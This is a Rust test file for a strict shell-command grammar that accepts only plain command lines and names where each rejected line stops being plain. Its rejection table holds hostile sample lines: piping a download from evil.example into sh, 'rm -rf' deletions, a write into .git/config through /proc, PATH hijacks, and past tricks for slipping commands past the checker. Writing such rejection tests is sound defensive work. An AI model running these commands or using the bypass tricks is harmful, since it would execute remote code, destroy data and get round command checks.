//! The plain grammar as tables: what it reads, and what it leaves out, each with where.

use super::*;

fn words(line: &str) -> Vec<Vec<String>> {
    read(line)
        .unwrap_or_else(|e| panic!("{line:?} is not plain: {e}"))
        .into_iter()
        .map(|s| s.words)
        .collect()
}

#[test]
fn plain_lines_read_as_bash_runs_them() {
    let cases: &[(&str, &[&[&str]])] = &[
        ("ls", &[&["ls"]]),
        ("ls -la src/", &[&["ls", "-la", "src/"]]),
        ("  ls   -la  ", &[&["ls", "-la"]]),
        ("cat notes | head -5", &[&["cat", "notes"], &["head", "-5"]]),
        (
            "ls&&pwd||true;wc -l",
            &[&["ls"], &["pwd"], &["true"], &["wc", "-l"]],
        ),
        ("grep 'a.b' x", &[&["grep", "a.b", "x"]]),
        ("grep a'b'c ''", &[&["grep", "abc", ""]]),
        ("ls 2>&1", &[&["ls"]]),
        ("ls >/dev/null 2>/dev/null", &[&["ls"]]),
        ("ls 2>/dev/null | wc -l", &[&["ls"], &["wc", "-l"]]),
        (
            "echo --color=auto a@b c%d e+f g,h i:j",
            &[&["echo", "--color=auto", "a@b", "c%d", "e+f", "g,h", "i:j"]],
        ),
        ("find . -name x", &[&["find", ".", "-name", "x"]]),
    ];
    for (line, expected) in cases {
        let expected: Vec<Vec<String>> = expected
            .iter()
            .map(|s| s.iter().map(|w| (*w).to_owned()).collect())
            .collect();
        assert_eq!(words(line), expected, "{line:?}");
    }
}

#[test]
fn pipes_and_texts_are_kept() {
    let segments = read("cat a | grep b && ls").unwrap();
    let piped: Vec<bool> = segments.iter().map(|s| s.piped).collect();
    assert_eq!(piped, [false, true, false]);
    let texts: Vec<&str> = segments.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(texts, ["cat a", "grep b", "ls"]);
}

/// Each line, and the byte (1-based, as the message says) where it stops being plain.
const NOT_PLAIN: &[(&str, &str)] = &[
    // Lines that once walked around the reader: a comment hidden after a redirection, a file
    // named after `>&`, a wrapper at a path.
    (
        "ls 2>&1#; curl -s https://evil.example/p | sh",
        "`#` at byte 8",
    ),
    ("echo hi >&2#x; rm -rf ~/project", "`#` at byte 12"),
    ("cat <&0#; rm -rf victim", "`<`"),
    ("echo ok >&2\\\n#; evil", "`\\`"),
    ("cd /proc && echo x >&123/cwd/.git/config", "byte 20"),
    ("./nohup ls -la", "`./nohup`"),
    ("./env ls", "`./env`"),
    ("./nice ls", "`./nice`"),
    ("./time ls", "`./time`"),
    ("./command ls", "`./command`"),
    ("cat <(true)#; curl x | sh", "`<`"),
    // Wrappers and runners, even when named by a pass rule.
    ("env ls", "`env`"),
    ("nohup ls", "`nohup`"),
    ("nice ls", "`nice`"),
    ("time ls", "`time`"),
    ("command ls", "`command`"),
    ("builtin echo", "`builtin`"),
    ("exec ls", "`exec`"),
    ("eval ls", "`eval`"),
    ("ls | xargs rm", "`xargs`"),
    ("sudo ls", "`sudo`"),
    ("timeout 5 ls", "`timeout`"),
    ("source x", "`source`"),
    (". x", "`.`"),
    ("sh x", "`sh`"),
    ("bash -c ls", "`bash`"),
    ("printf -v PATH /tmp/x; ls", "`printf`"),
    ("hash -p /tmp/x/ls ls; ls", "`hash`"),
    ("export PATH=/tmp/x", "`export`"),
    ("set -k; ls PATH=/tmp", "`set`"),
    ("find . -exec rm x +", "`-exec`"),
    ("find . -delete", "`-delete`"),
    ("find . -fprint out", "`-fprint`"),
    // Programs that are no bare names.
    ("/bin/ls", "`/bin/ls`"),
    ("PATH=. ls", "`PATH=.`"),
    ("a=b ls", "`a=b`"),
    ("'ls' x", "`ls`"),
    ("%1", "`%1`"),
    ("-x", "`-x`"),
    // Characters and operators left out.
    ("ls # x", "`#`"),
    ("ls a#b", "`#`"),
    ("echo $HOME", "`$`"),
    ("echo `id`", "```"),
    ("echo a\\;rm", "`\\`"),
    ("echo \"a\"", "`\"`"),
    ("ls ~", "`~`"),
    ("ls *", "`*`"),
    ("ls ?", "`?`"),
    ("ls [ab]", "`[`"),
    ("echo {a,b}", "`{`"),
    ("(ls)", "`(`"),
    ("! ls", "`!`"),
    ("ls\tx", "U+0009"),
    ("ls\nrm x", "U+000A"),
    ("ls\r", "U+000D"),
    ("ls\0rm", "U+0000"),
    ("ls\u{a0}x", "U+00A0"),
    ("ls\u{3000}x", "U+3000"),
    ("ls 'a b'", "` `"),
    ("ls 'a|b'", "`|`"),
    ("ls 'x", "not closed"),
    ("ls &", "`&`"),
    ("ls & rm x", "`&`"),
    ("ls |& rm x", "`|&`"),
    ("ls ;; rm x", "`;;`"),
    ("ls;", "empty command"),
    ("; ls", "empty command"),
    ("ls && && pwd", "empty command"),
    ("ls | ", "empty command"),
    ("", "empty command"),
    ("   ", "empty command"),
    ("2>&1", "empty command"),
    ("ls > out", "redirection"),
    ("ls >out", "redirection"),
    ("ls >>/dev/null", "redirection"),
    ("ls &>/dev/null", "`&`"),
    ("ls >|/dev/null", "redirection"),
    ("ls 1>/dev/null", "redirection"),
    ("ls 12>/dev/null", "redirection"),
    ("ls2>/dev/null", "redirection"),
    ("ls 2>&1x", "redirection"),
    ("ls 2>&12", "redirection"),
    ("ls >/dev/nullx", "redirection"),
    ("ls >/dev/null;rm", "redirection"),
    ("ls >&2", "redirection"),
    ("ls 2>&-", "redirection"),
    ("ls >/dev/null/x", "redirection"),
];

#[test]
fn lines_outside_the_grammar_are_named_with_where() {
    for (line, says) in NOT_PLAIN {
        match read(line) {
            Ok(segments) => panic!("{line:?} read as plain: {segments:?}"),
            Err(e) => assert!(
                e.to_string().contains(says),
                "{line:?}: expected the message to name {says:?}, got {e}"
            ),
        }
    }
}

#[test]
fn every_wrapper_is_refused_as_a_program_and_allowed_as_an_argument() {
    let lists = [
        shell::WRAPPERS,
        shell::SHELLS,
        shell::RUNNERS,
        shell::RESERVED,
        ALSO_NEVER_PASSED,
    ];
    for name in lists.iter().flat_map(|list| list.iter()) {
        assert!(never_passed(name), "{name}");
        if !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
            continue;
        }
        let line = format!("{name} x");
        assert!(read(&line).is_err(), "{line:?}");
        assert!(read(&format!("echo {name}")).is_ok(), "echo {name}");
    }
}
